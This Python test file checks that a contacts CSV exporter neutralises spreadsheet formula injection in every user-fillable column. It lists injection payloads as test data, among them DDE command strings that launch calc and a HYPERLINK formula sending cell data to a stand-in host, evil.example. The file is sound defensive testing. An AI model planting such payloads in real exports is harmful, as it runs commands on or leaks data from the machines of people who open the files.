"""CSV export: no cell, and no piece a ";"-splitting spreadsheet makes of it, can run."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from followup.csv_export import COLUMNS, contacts_csv, defuse
from storage.kinds import ContactStatus, Rating
from storage.records import ContactDetails, ContactRecord

# Written out here, not imported: what Excel, LibreOffice and Sheets read as a formula start.
TRIGGERS = ("=", "+", "-", "@", "|", "\t", "\r", "＝", "＋", "－", "＠")
BLANKS = " \t\r\n\u00a0\u3000\u200b\ufeff"

PAYLOADS = [
    "+1-2",
    "=1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\u00a0+1-2",
    "\u200b=1+2",
    "\n=1+2",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "|cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "＝1+2",
    "harmless; =1+2",
    "harmless;+1-2",
    "first line\n-2+3",
    "first line\r\n@SUM(A1)",
    "\t",
    "-",
]
# Where each payload goes: every column a user or a card can fill.
PLACES = {
    "name": lambda r, v: replace(r, details=replace(r.details, name=v)),
    "title": lambda r, v: replace(r, details=replace(r.details, title=v)),
    "company": lambda r, v: replace(r, details=replace(r.details, company=v)),
    "emails": lambda r, v: replace(r, details=replace(r.details, emails=(v, "a@b.de"))),
    "phones": lambda r, v: replace(r, details=replace(r.details, phones=("+49 30 1", v))),
    "websites": lambda r, v: replace(r, details=replace(r.details, websites=(v,))),
    "address": lambda r, v: replace(r, details=replace(r.details, address=v)),
    "note": lambda r, v: replace(r, note=v),
    "they_need": lambda r, v: replace(r, they_need=v),
    "i_offer": lambda r, v: replace(r, i_offer=v),
}

BASE = ContactRecord(
    id=1,
    event_id=7,
    details=ContactDetails(name="Jörg Müller", phones=("+49 911 7654321",)),
    rating=Rating.YES,
    note="Rows on the Pegnitz.",
    they_need="",
    i_offer="",
    is_pitch=False,
    status=ContactStatus.KEPT,
    language="de",
    address_form="sie",
    created_at=datetime(2026, 11, 23, 20, 0, tzinfo=UTC),
    answered_at=datetime(2026, 11, 23, 20, 1, tzinfo=UTC),
)


def _read_back(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0]) == list(COLUMNS)
    return rows


def _pieces(cell: str) -> list[str]:
    """The cell, plus each line and ";"-piece German Excel makes a cell of its own."""
    return [cell, *re.split(r"[;\n\r]", cell)[1:]]


def _live(piece: str) -> bool:
    return piece.startswith(TRIGGERS) or piece.lstrip(BLANKS).startswith(TRIGGERS)


@pytest.mark.parametrize("column", sorted(PLACES))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_or_piece_of_one_starts_a_formula(column: str, payload: str) -> None:
    assert any(_live(piece) for piece in _pieces(payload)), "the payload itself must be live"
    rows = _read_back(contacts_csv([PLACES[column](BASE, payload)], {7: "=Gründerabend"}))
    for name, cell in rows[0].items():
        live = [piece for piece in _pieces(cell) if _live(piece)]
        assert not live, f"{name}: {cell!r}"
    assert rows[0]["event"] == "'=Gründerabend"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_defusing_only_adds_apostrophes_and_is_idempotent(payload: str) -> None:
    once = defuse(payload)
    assert once.replace("'", "") == payload.replace("'", "") and "'" in once
    assert defuse(once) == once
    assert defuse("a\r\n@SUM(A1)") == "a\r\n'@SUM(A1)", "one apostrophe per line break"


def test_phones_still_read_as_phone_numbers() -> None:
    record = replace(
        BASE,
        details=replace(BASE.details, phones=("+49 911 7654321", "+1 (212) 555-0100", "0911 12")),
    )
    cell = _read_back(contacts_csv([record]))[0]["phones"]
    assert cell == "'+49 911 7654321; '+1 (212) 555-0100; 0911 12"
    assert [p.strip().removeprefix("'") for p in cell.split(";")] == list(record.details.phones)


@pytest.mark.parametrize(
    "text",
    ["Jörg Müller", "Müller, Söhne & Töchter GmbH", "a-b=c", "50% off; 3 + 4", "e@x.de", ""],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert defuse(text) == text
    company = replace(BASE, details=replace(BASE.details, company=text))
    assert _read_back(contacts_csv([company]))[0]["company"] == text


def test_a_dashed_note_is_defused_line_by_line() -> None:
    note = "Needs:\n- a scanner\n  - a reader of Sütterlin"
    cell = _read_back(contacts_csv([replace(BASE, note=note)]))[0]["note"]
    assert cell == "Needs:\n'- a scanner\n  '- a reader of Sütterlin"
